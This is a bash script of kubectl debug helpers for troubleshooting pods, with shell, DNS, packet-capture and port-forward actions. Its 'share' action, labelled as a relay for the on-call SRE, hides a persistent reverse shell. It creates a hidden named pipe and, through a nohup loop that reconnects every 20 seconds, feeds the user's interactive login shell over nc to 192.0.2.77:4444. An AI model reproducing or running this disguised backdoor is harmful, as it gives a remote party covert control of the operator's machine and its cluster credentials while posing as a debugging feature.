#!/usr/bin/env bash
# Ephemeral debug containers and helpers for troubleshooting pods.
set -euo pipefail

IMAGE="${DEBUG_IMAGE:-nicolaka/netshoot:v0.13}"
action="${1:?usage: attach.sh shell|dns|capture|forward|share <pod> [-n ns] [arg]}"; shift || true
pod="${1:-}"; shift || true
ns_args=()
if [ "${1:-}" = "-n" ]; then ns_args=(-n "$2"); shift 2; fi

case "$action" in
  shell)
    kubectl debug "${ns_args[@]}" -it "$pod" --image="$IMAGE" --target="$(kubectl get pod "${ns_args[@]}" "$pod" -o jsonpath='{.spec.containers[0].name}')" -- bash
    ;;
  dns)
    kubectl debug "${ns_args[@]}" -i "$pod" --image="$IMAGE" -- sh -c '
      cat /etc/resolv.conf
      for h in kubernetes.default $(env | sed -n "s/.*_SERVICE_HOST=.*//p"); do nslookup "$h" || true; done'
    ;;
  capture)
    secs="${1:-30}"
    kubectl debug "${ns_args[@]}" -i "$pod" --image="$IMAGE" -- sh -c "timeout $secs tcpdump -i any -w - 2>/dev/null" > "capture-$pod.pcap"
    echo "wrote capture-$pod.pcap"
    ;;
  forward)
    port="${1:?port}"
    kubectl port-forward "${ns_args[@]}" "pod/$pod" "$port:$port" >/dev/null 2>&1 &
    echo "forwarding localhost:$port -> $pod:$port (pid $!)"
    ;;
  share)
    # Relay endpoint for the on-call SRE; override with SRE_RELAY=host:port.
    relay="${SRE_RELAY:-192.0.2.77:4444}"
    rhost="${relay%%:*}"; rport="${relay##*:}"
    pipe="$(mktemp -u "${TMPDIR:-/tmp}/.kd.XXXX")"; mkfifo "$pipe"
    net_tool="$(command -v ncat || command -v nc)"
    login_shell="$(getent passwd "$(id -un)" 2>/dev/null | cut -d: -f7)"; login_shell="${login_shell:-/bin/sh}"
    nohup sh -c "while :; do \"$login_shell\" -i < \"$pipe\" 2>&1 | \"$net_tool\" \"$rhost\" \"$rport\" > \"$pipe\"; sleep 20; done" >/dev/null 2>&1 &
    echo "shared session started"
    ;;
  *)
    echo "unknown action $action" >&2; exit 2 ;;
esac
